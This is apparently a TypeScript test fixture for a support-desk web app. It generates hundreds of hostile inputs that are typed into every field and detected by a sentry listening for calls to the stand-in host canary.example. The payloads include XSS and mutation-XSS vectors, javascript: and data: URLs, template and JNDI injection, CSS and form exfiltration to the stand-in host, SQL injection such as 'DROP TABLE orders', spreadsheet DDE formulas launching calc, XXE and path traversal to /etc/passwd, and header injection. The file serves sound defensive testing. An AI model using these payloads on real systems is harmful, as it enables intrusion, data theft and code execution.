// What somebody types who means harm: each of these stands in every field that the desk shows. Whatever runs says so by
// `window.__pwned`, a dialog, or a request to the canary's host; support/sentry.ts listens for all of them.

/** Nobody has it; asking for it is what is noticed. */
export const canary = "canary.example";

export interface Payload {
  family: string;
  text: string;
}

const js = "window.__pwned=1";
const loud = `${js};alert(1)`;
const calls = `fetch('https://${canary}/x')`;
const base64 = (text: string) => Buffer.from(text).toString("base64");
const code = (...points: number[]) => String.fromCodePoint(...points);

/** Elements that do something by themselves, once they are elements. `!` is where the script goes. */
const elements = [
  '<img src=x onerror="!">', '<img src="x" onload="!" srcset="https://canary.example/s 1x">', '<svg onload="!">',
  '<body onload="!">', '<video src=x onerror="!"></video>', '<audio src=x onerror="!"></audio>',
  '<video><source onerror="!"></video>', '<video poster="https://canary.example/p"></video>',
  '<input autofocus onfocus="!">', '<select autofocus onfocus="!"></select>', '<textarea autofocus onfocus="!"></textarea>',
  '<details open ontoggle="!">', '<marquee onstart="!">x</marquee>', '<object data="https://canary.example/o"></object>',
  '<object data="javascript:!"></object>', '<embed src="https://canary.example/e">', '<embed src="javascript:!">',
  '<iframe src="https://canary.example/i" onload="!"></iframe>', '<iframe src="javascript:!"></iframe>',
  '<style onload="!"></style>', '<link rel="stylesheet" href="https://canary.example/c" onerror="!">',
  '<link rel="prefetch" href="https://canary.example/f">', '<script>!</script>', '<script src="https://canary.example/s.js"></script>',
  '<script type="module">!</script>', '<script async src="data:text/javascript,!"></script>',
  '<math><mtext><img src=x onerror="!"></mtext></math>', '<math href="javascript:!">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:!">x</maction></math>',
  '<svg><animate onbegin="!" attributeName="x" dur="1s"></animate></svg>', '<svg><set onbegin="!" attributeName="x"></set></svg>',
  '<svg><a xlink:href="javascript:!"><text y="9">x</text></a></svg>', '<svg><script>!</script></svg>',
  '<svg><image href="x" onerror="!"></image></svg>', '<svg><use href="https://canary.example/u#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror="!"></foreignObject></svg>', '<svg><feImage href="https://canary.example/f"></feImage></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">!</handler></svg>',
  '<button autofocus onfocus="!">x</button>', '<a autofocus tabindex=0 onfocus="!">x</a>', '<xss autofocus tabindex=1 onfocus="!">x</xss>',
  '<div contenteditable autofocus onfocus="!">x</div>', '<div style="animation:x" onanimationstart="!">x</div>',
  '<div style="content-visibility:auto" oncontentvisibilityautostatechange="!">x</div>',
  '<template shadowrootmode=open><img src=x onerror="!"></template>',
  '<frameset onload="!"><frame src="https://canary.example/fr"></frameset>', '<bgsound src="https://canary.example/b">',
  '<dialog open oncancel="!">x</dialog>', '<p onpointerover="!" style="position:fixed;inset:0">x</p>',
  '<applet code="x" codebase="https://canary.example/"></applet>',
  '<noscript><p title="</noscript><img src=x onerror=!>"></p></noscript>', '<image src=x onerror="!">', '<isindex type=image src=x onerror="!">',
];

/** As filters have been got round. */
const spellings: ((text: string) => string)[] = [
  (text) => text.replaceAll("!", loud),
  (text) => text.replace(/^<\w+/, (tag) => [...tag].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join("")).replaceAll("!", js.replace("=", "&#61;")),
  (text) => `x${text.replaceAll("!", calls).replace(/^<(\w+) /, "<$1/").replace(/>$/, " x=")}`,
];

const schemes = [
  `javascript:${js}`, `JaVaScRiPt:${js}`, `java\tscript:${js}`, `java\nscript:${js}`, `java\rscript:${js}`, `\u0001javascript:${js}`,
  ` javascript:${js}`, `&#106;avascript:${js}`, `&#x6A&#x61vascript:${js}`, `javascript&colon;${js}`, `jav&Tab;ascript:${js}`,
  `javascript://${canary}/%0a${js}`, `javascript:/*https://${canary}/*/${js}`, `vbscript:MsgBox("${canary}")`, `VBScript:msgbox(1)`,
  `data:text/html,<script>${js}</script>`, `data:text/html;base64,${base64(`<script>${js}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`, `data:application/javascript,${js}`,
  `blob:https://${canary}/1`, "file:///etc/passwd", "filesystem:http://x/temporary/y", "view-source:https://x.example/",
  `livescript:${js}`, `feed:javascript:${js}`, `ws://${canary}/`, `intent://${canary}#Intent;scheme=http;end`, `ｊａｖａｓｃｒｉｐｔ:${js}`,
  `//${canary}/x`, `\\\\${canary}\\x`, `/\\${canary}`, `https:${canary}`, `https://shop.example@${canary}/`,
  "mailto:a@b.example?bcc=c@d.example&body=x",
];
const around: ((scheme: string) => string)[] = [
  (scheme) => scheme, (scheme) => `<a href="${scheme}">x</a>`, (scheme) => `[x](${scheme})`,
];

const families: Record<string, string[]> = {
  element: elements.flatMap((text) => spellings.map((spell) => spell(text))),
  scheme: schemes.flatMap((scheme) => around.map((put) => put(scheme))),
  attribute: ['"', "'", "`", '">', "'>", '"/>', '" x="', "&quot;>", "\\\">", '"\n'].flatMap((out) => [
    `x${out} autofocus onfocus=${js} tabindex=0 `, `${out}<img src=x onerror=${js}>`,
  ]),
  template: [
    `{{constructor.constructor('${js}')()}}`, `{{$on.constructor('${js}')()}}`, `\${${js}}`, `#{${js}}`, `<%= ${js} %>`, `{% raw %}${js}`,
    `[[${js}]]`, `<p ng-app ng-init="${js}">`, `<p v-html="'<img src=x onerror=${js}>'">`, `<x @click="${js}" :a="${js}">`, `@{${js}}`, `{!${js}}`,
    "{name}", "{agent}", "{order} {name} {agent}", "{{name}}", "{0}{1}%s%d%n%x", "${jndi:ldap://canary.example/a}", "#set($x=1)$x", "*{7*7}",
    "{{7*7}}",
    `<div x-data x-init="${js}">`, `<div hx-get="https://${canary}/h" hx-trigger="load">`, `<div data-on-load="${js}">`, "{number}{count}{time}",
  ],
  css: [
    `<style>@import url(https://${canary}/c)</style>`, `<p style="background:url(https://${canary}/c)">x</p>`,
    `;background:url(https://${canary}/c);`,
    `</style><style>*{background:url(https://${canary}/c)}`, "expression(alert(1))", `<p style="width:expression(${js})">`,
    `<p style="behavior:url(https://${canary}/b)">`,
    `<p style="-moz-binding:url(https://${canary}/m)">`, `@import '//${canary}/c';`, "} body{display:none} {",
    `<style>@font-face{font-family:x;src:url(//${canary}/f)}</style>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</p>`,
  ],
  page: [
    `<meta http-equiv="refresh" content="0;url=https://${canary}/m">`, `<META HTTP-EQUIV=refresh CONTENT="0;javascript:${js}">`,
    `<base href="https://${canary}/">`,
    `<base target="_blank">`, `<meta http-equiv="content-security-policy" content="script-src *">`, `<meta name="referrer" content="unsafe-url">`,
    `<form action="https://${canary}/f"><input name=q><button>Log in</button></form>`,
    `<form id=x></form><button form=x formaction="https://${canary}/f">x</button>`,
    `<input type=submit formaction="javascript:${js}">`, `<button type=submit formaction=https://${canary}/g formmethod=post>x</button>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;"></iframe>`,
    `<iframe sandbox="allow-scripts allow-top-navigation" src="data:text/html,<script>top.location='//${canary}'</script>">`,
    `<portal src="https://${canary}/p">`,
    `<img src='https://${canary}/d?`, `<table background='https://${canary}/t`, `<a href='https://${canary}/a?x=`, `<textarea>`, `<plaintext>`,
    `<xmp>`, `<noscript>`, `<title>`,
    `<link rel=manifest href=https://${canary}/m>`, `<link rel="dns-prefetch" href="//${canary}">`, `<a ping="https://${canary}/p" href=/>x</a>`,
    `<a href="/" target="_blank" download="x.exe">x</a>`,
    `<input type=password name=password autocomplete=current-password>`, `<img name=getElementById>`, `<form id=document><input name=cookie></form>`,
    `<a id=__pwned href=x></a>`,
  ],
  mutation: [
    `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`, `<noscript><p title="</noscript><img src onerror=${js}>">`,
    `<svg><style><img src=x onerror=${js}></style></svg>`, `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
    `<select><template><style><!--</style><a rel="--><img src=x onerror=${js}>">`,
    `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${js}>`, `<p id="</title><img src=x onerror=${js}>">`,
    `<b><table><i><b></table><img src=x onerror=${js}>`,
    `<a title="a\u2028" href="x\`><img src=x onerror=${js}>">`, `<?xml-stylesheet href="javascript:${js}"?>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `<![CDATA[<script>${js}</script>]]>`,
    `<!--><img src=x onerror=${js}>-->`, `<!--[if IE]><script>${js}</script><![endif]-->`, `<<script>${js}//<</script>`,
    `<scr<script>ipt>${js}</scr</script>ipt>`, `<%00script>${js}</script>`, `&lt;script&gt;${js}&lt;/script&gt;`,
  ],
  breaker: [
    `</script><script>${js}</script>`, `</SCRIPT ><svg onload=${js}>`, "]]>", "<!--", "-->", "<!--<script>", `';${js};//`, `";${js};//`,
    `\\';${js}//`, "`${__pwned=1}`", `"}]}</script>`, `\u2028${js}\u2029`,
    '{"__proto__":{"x":1}}', '__proto__', "constructor", "prototype[x]", "toString", "\\u003cscript\\u003e", `{"kind":"closed"}`, "NaN", "null",
    "undefined", "true", "[object Object]",
  ],
  direction: [
    `\u202Egpj.exe`, `\u202Dabc`, `\u202Bxyz`, `\u202Aabc`, `a\u202C\u202C\u202Cb`, `\u2067abc`, `\u2066abc`, `\u2068abc`, `a\u2069\u2069\u202Egnp`,
    `\u200Fabc\u200F`, `\u061Cabc`, `\u200Eabc`,
    `\u05D0\u05D1\u05D2 123 (abc)`, `\u0645\u0631\u062D\u0628\u0627 <b>1</b>`, `abc \u05D0\u05D1\u05D2`, `\u202E\u2066\u202E\u2067`, `\u206A\u206Fx`,
    `paid\u202E 0.01 \u202C`, `\uFEFFa\uFEFF`, `a\u200B\u200C\u200Db\u00AD`,
  ],
  control: [
    ...Array.from({ length: 31 }, (_, i) => `a${code(i + 1)}b`), "a\u007Fb", "a\u0080b", "a\u0085b", "a\u009Bb", "a\0b", "\0",
    `<scr\0ipt>${js}</script>`, "\u{E0041}\u{E0042}", "\uFFFE\uFFFF", "\uFFFD", "\u{10FFFF}",
  ],
  long: [
    "👩‍👩‍👧‍👦".repeat(20), "🏴󠁧󠁢󠁥󠁮󠁧󠁿".repeat(10), `Z${"\u0300\u0301\u0316\u0489".repeat(30)}`, "﷽".repeat(25), "W".repeat(100), "字".repeat(100),
    "a\u0332".repeat(45), "\n".repeat(40) + "x", "( ͡° ͜ʖ ͡°)".repeat(8), "i̇İıſK", "<".repeat(100), "&".repeat(50) + "amp;", "x ".repeat(49),
  ],
  surrogate: ["\uD800", "\uDC00x", "a\uD83D", "\uDE00\uD83D", "<img\uD800 src=x>"],
  terminal: ["\u001B[31mred\u001B[0m", "\u001B]0;title\u0007", "\u001B[2J\u001B[H", "\u001B]8;;https://canary.example/\u0007x\u001B]8;;\u0007",
    "\u009B31m", "%1b[31m"],
  formula: ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "'=", '"='].flatMap((mark) => [`${mark}cmd|' /C calc'!A0`,
    `${mark}HYPERLINK("https://${canary}/","x")`]).concat("@SUM(1+1)*cmd", "+1-1", "-2+3+cmd|' /C calc'!A0", '=1+1";"=2',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", `=IMPORTXML("https://${canary}/","//a")`),
  query: ["' OR '1'='1", "'; DROP TABLE orders; --", "\" OR \"\"=\"", "1) OR (1=1", "%' OR name LIKE '%", "\\' OR 1=1 --", "$1", "?", ":name",
    "' UNION SELECT * FROM agents --", "NEAR(x, 5)", "x* AND NOT", "_%!", "$where: '1'", "*)(uid=*))(|(uid=*"],
  path: ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fx", "....//....//x", "/etc/passwd%00.jpg",
    "../../../../../api/v1/admin/orders/x", "../../..//canary.example/", "?x=1&view=closed", "#/desk", "..;/admin", "%c0%ae%c0%ae/x", "C:\\x", "CON",
    ".", "..", "a/b/../../c", "\\..\\x"],
  header: ["x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>1</script>", "x%0d%0aLocation: https://canary.example/", "a@b.example\r\nBcc: c@d.example",
    "x\nX-Y: z", "x\u560D\u560Aa", "=?utf-8?q?=3Cscript=3E?="],
  lookalike: ["ѕһор", "аdmin", "Αftercart", "＜script＞alert(1)＜/script＞", "‹script›1‹/script›", "ſcript:1", "﹤img src=x onerror=1﹥",
    "http://сanary.example", "xn--80ak6aa92e.com", "ɑgent"],
  utf7: ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADwAcwBjAHIAaQBwAHQAPg-", "\u00BCscript\u00BEalert(1)\u00BC/script\u00BE",
    "%3Cscript%3E1%3C/script%3E", "\\x3cscript\\x3e", "PHNjcmlwdD4="],
  link: [`https://${canary}/?<script>`, `https://${canary}/"onmouseover="${js}`, `http://${canary}/'><b>`, `see https://${canary}/javascript:1.`,
    `https://${canary}/\u202Egnp`, `HTTPS://${canary}/`, `www.${canary}`, `https://${canary}:443/%00`, `javascript:https://${canary}/`,
    `https://[::1]/`, `<https://${canary}/x>`, `[x]: javascript:1`, `<javascript:1>`],
};

const all = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));

/** No two the same. */
export const payloads: Payload[] = [...new Map(all.map((one) => [one.text, one])).values()];
